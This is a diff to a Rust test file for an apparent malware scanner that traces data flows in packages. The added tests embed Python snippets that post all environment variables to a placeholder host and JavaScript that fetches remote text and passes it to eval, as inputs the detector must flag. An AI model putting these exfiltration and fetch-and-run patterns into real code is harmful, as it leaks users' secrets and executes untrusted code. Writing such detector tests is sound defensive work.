@@ -1,5 +1,6 @@
-use crate::flow::testing::{remote_code, script};
+use crate::flow::testing::{found, remote_code, script, wheel};
 use crate::unpack::text_file as file;
+use customs_model::{SinkKind, SourceKind};
 
 fn runs_remote_code(code: &str) -> bool {
     let code = code.replace("TEXT", "fetch('https://a.invalid/b').then(r => r.text())");
@@ -38,4 +39,38 @@ fn what_is_put_elsewhere_or_is_not_thrown_has_no_part_in_it() {
     ] {
         assert!(!runs_remote_code(code), "{code}");
     }
+}
+
+/// Whether a wheel whose module begins so sends all of the environment.
+fn sends_environment(read: &str) -> bool {
+    let code = format!(
+        "import os, requests\ndef read(k):\n    return {read}\n\
+         def go():\n    requests.post('https://a.invalid', data=[read(k) for k in os.environ])\n\
+         go()\n"
+    );
+    let found = found(wheel(&code));
+    let mut flows = found.flows.iter();
+    flows.any(|flow| flow.source == SourceKind::Environment && flow.sink == SinkKind::Network)
+}
+
+#[test]
+fn a_variable_of_one_tool_is_not_all_of_the_environment() {
+    assert!(!sends_environment("os.environ['TOOL_' + k.upper()]"));
+    assert!(!sends_environment("os.environ[f'TOOL_{k}']"));
+    // Every name, in whatever way it is written, and those of others' secrets.
+    assert!(sends_environment("os.environ[k]"));
+    assert!(sends_environment("os.environ['' + k]"));
+    assert!(sends_environment("os.environ['AWS_' + k[4:]]"));
+}
+
+#[test]
+fn a_part_whose_name_is_known_in_part_may_be_each() {
+    let runs = |key: &str| {
+        let code =
+            format!("(async () => {{ const o = {{ ab: await TEXT, c: '1' }}; eval(o[{key}]) }})()");
+        runs_remote_code(&code)
+    };
+    assert!(runs("'a' + process.argv[2]"));
+    assert!(runs("'ab'"));
+    assert!(!runs("'c'"));
 }
